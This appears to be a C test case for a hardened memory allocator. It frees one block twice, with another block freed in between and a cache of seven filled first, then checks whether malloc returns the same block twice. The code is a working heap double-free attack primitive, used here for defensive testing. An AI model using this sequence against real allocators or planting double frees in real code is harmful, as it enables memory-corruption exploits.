// attack: a block freed twice, another of its size freed in between
// has: a double free; sizes and order
// reaches: malloc gives one block twice
// never: engine hardened
#include "attack.h"

int main(void) {
  enum { cached = 7, many = 32 };
  char* fill[cached];
  char* got[many];
  for (int i = 0; i < cached; ++i) fill[i] = take(0x28);
  char* const block = take(0x28);
  char* const other = take(0x28);
  for (int i = 0; i < cached; ++i) drop(fill[i]);
  drop(block);
  drop(other);
  drop(block);
  for (int i = 0; i < many; ++i) {
    got[i] = take(0x28);
    for (int j = 0; j < i; ++j)
      if (got[j] == got[i]) reached();
  }
  nothing();
}
